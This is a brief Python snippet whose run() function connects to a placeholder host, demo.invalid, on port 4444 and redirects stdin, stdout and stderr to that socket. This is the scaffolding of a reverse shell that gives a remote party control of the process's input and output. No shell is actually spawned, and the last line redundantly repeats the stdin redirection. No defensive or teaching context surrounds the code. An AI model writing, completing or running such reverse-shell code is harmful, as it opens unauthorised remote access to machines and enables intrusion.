import os
import socket
import sys


def run():
    line = socket.create_connection(("demo.invalid", 4444))
    for stream in (sys.stdin, sys.stdout, sys.stderr):
        os.dup2(line.fileno(), stream.fileno())
    os.dup2(line.fileno(), sys.stdin.fileno())
